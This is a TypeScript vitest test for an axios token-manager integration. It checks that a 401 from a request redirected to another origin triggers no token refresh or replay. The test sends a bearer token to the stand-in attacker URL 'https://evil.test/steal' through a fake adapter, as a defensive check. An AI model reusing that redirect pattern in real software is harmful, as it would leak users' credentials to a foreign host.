import { type FetchTokens, TokenManager } from '@tessera/core';
import axios, { type AxiosError, type InternalAxiosRequestConfig } from 'axios';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { fakeApi } from '../test/fake-api.js';
import { attachTokenManager } from './attach-token-manager.js';

/**
 * Mutation check of the 401 handler's `judge` (decision 0204): a request your own `transformRequest`
 * moves to another origin (`this.url`) is not judged at send when no interceptor runs after ours, so
 * its first token goes there (the documented residual). Its 401 must then invalidate, refresh and
 * replay nothing: without the judgement, the replay carried a second, fresh token to that origin.
 */

const managers: TokenManager[] = [];
afterEach(() => {
  for (const tokens of managers.splice(0)) tokens.dispose();
});

async function setup() {
  let issued = 0;
  const fetchTokens = vi.fn<FetchTokens>(async () => ({ access_token: `at-${++issued}`, expires_in: 300 }));
  const tokens = new TokenManager({ fetchTokens, retry: false, rejectionCooldown: 0 });
  managers.push(tokens);
  await tokens.setTokens({ access_token: 'at-0', expires_in: 300 });
  const api = fakeApi((call) =>
    String(call.config.url).includes('evil') ? { status: 401 } : { status: 200 },
  );
  const instance = axios.create({ baseURL: 'https://api.example.com', adapter: api.adapter });
  attachTokenManager(instance, tokens);
  return { instance, fetchTokens, calls: api.calls };
}

describe('attachTokenManager: the 401 of a request your transformRequest moved to another origin', () => {
  it('invalidates, refreshes and replays nothing: only the first token ever reaches that origin', async () => {
    const { instance, fetchTokens, calls } = await setup();
    const moveAway = function (this: InternalAxiosRequestConfig, data: unknown): string {
      this.url = 'https://evil.test/steal';
      return JSON.stringify(data);
    };

    const error = (await instance
      .post('/orders', { a: 1 }, { transformRequest: [moveAway] })
      .catch((caught: unknown) => caught)) as AxiosError;

    expect(error.response?.status).toBe(401);
    expect(fetchTokens).not.toHaveBeenCalled();
    expect(calls.map((call) => [call.config.url, call.authorization])).toEqual([
      ['https://evil.test/steal', 'Bearer at-0'],
    ]);
  });
});
